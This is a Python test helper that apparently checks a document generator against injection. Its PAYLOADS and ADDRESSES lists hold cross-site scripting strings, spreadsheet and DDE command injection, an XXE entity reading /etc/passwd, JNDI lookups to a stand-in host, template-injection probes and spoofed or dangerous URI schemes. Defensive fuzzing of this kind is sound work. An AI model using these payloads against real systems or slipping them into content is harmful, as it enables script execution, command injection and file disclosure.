"""What somebody may write into a document to get more out of it than text, and where."""

from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from typing import Any, cast

from app.domain.documents.content import (
    Contact,
    ContactKind,
    DocumentContent,
    Entry,
    Letter,
    Line,
    Paragraph,
    Section,
)
from tests.builders.documents import (
    a_contact,
    a_document,
    a_header,
    a_line,
    an_entry,
    bullets,
    entries,
    paragraphs,
    skills,
    some_lines,
)

PAYLOADS = [
    # markup and scripts
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style></title><svg onload=alert(1)>",
    '"><iframe src="https://tracker.example"></iframe>',
    "' onmouseover='alert(1)",
    "<a href=javascript:alert(1)>me</a>",
    "<meta http-equiv=refresh content=0;url=https://tracker.example>",
    "<link rel=stylesheet href=//tracker.example/x.css>",
    "<style>@import 'https://tracker.example';</style>",
    '<object data="data:text/html,x"><base href=//tracker.example>',
    "<!--#exec cmd='id'--> <?php echo 1 ?>",
    "&lt;b&gt; &#60;i&#62; &amp;",
    "]]> <!-- -->",
    "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>",
    '{ HYPERLINK "https://tracker.example" } { INCLUDEPICTURE x }',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]> &x;',
    # Markdown
    "[click](javascript:alert(1))",
    "[click](<https://tracker.example>)",
    "![see](https://tracker.example/p.png)",
    "<https://tracker.example>",
    "https://tracker.example/?who=me",
    "[link]: https://tracker.example",
    "[^1]: note",
    "# not a heading",
    "- not a list",
    "+ not a list",
    "1. not a list",
    "2) not a list",
    "> not a quote",
    "| not | a table |",
    "---",
    "===",
    "***",
    "_no_ *stress* **at** `all` ~~here~~",
    "\\*escaped\\*",
    "```",
    "~~~",
    "$$x$$ \\(y\\)",
    # PDF
    ") Tj ET Q /JS (app.alert) >> endobj",
    "<< /S /JavaScript /JS (app.alert(1)) >> \\) ((",
    "EMC EMC BT /F1 99 Tf",
    # templates and formulas
    "{{ 7 * 7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "{{self.__init__.__globals__}} {% for x in y %} #read('/etc/passwd')",
    "${jndi:ldap://tracker.example/a} %s %n {0} {name}",
    '=HYPERLINK("https://tracker.example","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    # what cannot be seen
    "\x00\x08\x1b[31m bell\x07",
    "\x01\x0b\x0c\x1f\x7f\x80\x9b\ufffe\uffff controls",
    "\u202egnp.exe\u2066",
    "zero\u200b\u200e\u2060\ufeffwidth\u00ad",
    "tags \U000e0041\U000e0042 and nonchars \ufdd0",
    "lone \ud800 half \udfff",
    "private \ue000 \uf8ff \U000f0000",
    "two\nlines\r\nand\u2028# more\u2029- lines\u0085> here",
    "x" * 10_000,
    "Z" + "\u0301\u0330\u0489" * 400 + "algo",
    # honest
    "C++ <T> & R&D, a = b, x < y > z, 100 % of O'Brien's \"own\" [sic] #1 @home",
    "f(x) = {x | x_1 * x_2 ~ 3} \\n C:\\new `sh` $5 ^2",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "\\\\tracker.example\\share",
    "//tracker.example/share",
    "smb://tracker.example/share",
    "ms-word:ofe|u|https://tracker.example/x.docm",
    "search-ms:query=x",
    "mailto:a@b.example?attach=/etc/passwd",
    "mailto:a@b.example%0d%0abcc:c@d.example",
    "tel:*21*123#",
    'https://a.example/" onclick="alert(1)',
    "https://a.example/> <b>",
    "https://a.example/\u202egnp.exe",
    "https://a.example/) (javascript:alert(1)",
]
SAFE = ("http://", "https://", "mailto:", "tel:")


def a_full_document() -> DocumentContent:
    """With every field that a document can have, once at least."""
    entry = an_entry(
        "x", "x", "x", "x", text="x", url="https://a.example", bullets=("x", "x"), details=("x",)
    )
    contacts = [a_contact(kind, "x", "https://a.example") for kind in ContactKind]
    content = a_document(
        paragraphs("x", "x"),
        entries("x", entry, entry),
        skills("x", x=("x", "x")),
        bullets("x", "x", "x"),
        header=a_header("x", "x", *contacts),
    )
    line = a_line("x")
    letter = Letter(
        date=line,
        recipient=some_lines("x", "x"),
        subject=line,
        salutation=line,
        paragraphs=(Paragraph((line,)), Paragraph((line,))),
        closing=line,
        signature=line,
    )
    return replace(content, letter=letter)


def filled(text: str, url: str | None = None) -> DocumentContent:
    """The full document with the same text in every field, and the same address behind every link."""
    return cast(DocumentContent, _filled(a_full_document(), text, url))


def each_alone(text: str) -> Iterator[DocumentContent]:
    """The full document with the text in one field, and in the next: what stands beside it is harmless."""
    content, n = a_full_document(), 0
    while (made := _one_filled(content, text, n)) is not None:
        yield made
        n += 1


def _filled(thing: Any, text: str, url: str | None) -> Any:
    match thing:
        case Line():
            return replace(thing, text=text)
        case Contact():
            return replace(thing, text=text, url=url)
        case tuple():
            return tuple(_filled(each, text, url) for each in thing)
    if not is_dataclass(thing) or isinstance(thing, type):
        return thing
    made: Any = replace(thing, **{f.name: _filled(getattr(thing, f.name), text, url) for f in fields(thing)})
    match made:
        case Entry():
            return replace(made, url=url)
        case Section():
            return replace(made, title=text)
        case DocumentContent():
            return replace(made, language=text)
    return made


def _one_filled(content: DocumentContent, text: str, wanted: int) -> DocumentContent | None:
    """None when there are not so many fields."""
    passed = iter(range(1_000))
    found = False

    def put(thing: Any) -> Any:
        nonlocal found
        if isinstance(thing, tuple):
            return tuple(put(each) for each in thing)
        if not is_dataclass(thing) or isinstance(thing, type):
            return thing
        made: Any = replace(thing, **{f.name: put(getattr(thing, f.name)) for f in fields(thing)})
        name = {Line: "text", Contact: "text", Section: "title"}.get(type(made))
        if name and next(passed) == wanted:
            found = True
            return replace(made, **{name: text})
        return made

    made = put(content)
    return made if found else None
